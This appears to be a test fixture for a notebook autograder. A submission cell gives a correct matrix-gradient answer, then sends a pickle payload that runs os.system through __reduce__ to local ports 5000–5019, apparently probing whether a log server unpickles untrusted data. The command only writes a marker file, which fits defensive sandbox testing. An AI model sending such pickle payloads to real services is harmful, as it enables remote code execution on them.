# /// attack
# tries = "sends a pickle to every port that a log server could listen on"
# total = 2
# [parts]
# 2d = "right"
# ///

# %%
def aufgabe_2d(W, x, grad_y):
    return W.T @ grad_y

# %%
import os
import pickle
import socket


class Bomb:
    def __reduce__(self):
        return os.system, ("echo @MARK@ > /tmp/@MARK@-pickle",)


for port in (int("@TCP_PORT@"), *range(5000, 5020)):
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=0.1) as connection:
            connection.sendall(pickle.dumps(Bomb()))
    except OSError:
        continue
print(In[:3])
